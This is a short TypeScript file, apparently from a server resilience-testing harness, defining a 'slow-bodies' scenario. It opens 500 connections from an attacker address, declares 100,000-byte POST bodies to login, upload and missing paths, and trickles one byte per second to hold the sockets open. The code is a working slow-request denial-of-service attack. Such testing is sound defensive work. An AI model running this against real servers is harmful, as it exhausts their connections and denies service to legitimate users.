import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { attackerAddress } from '../account.ts';
import { repeat, type Scenario } from '../scenario.ts';

export const slowBodies: Scenario = {
  name: 'slow-bodies',
  title: '500 bodies that arrive byte by byte, of requests that are refused or need none',
  async attack({ url, signal }) {
    const { hostname, port } = new URL(url);
    let opened = 0;
    await repeat({ signal }, 500, async () => {
      opened += 1;
      const path = ['/nowhere', '/api/media/upload', '/auth/login'][opened % 3];
      const socket = connect({ host: hostname, port: Number(port), localAddress: attackerAddress });
      socket.on('error', () => {}).resume();
      await once(socket, 'connect', { signal });
      socket.write(
        `POST ${path} HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
      );
      while (!signal.aborted && !socket.closed) {
        socket.write(' ');
        await delay(1_000, undefined, { signal });
      }
      socket.destroy();
    });
  },
};
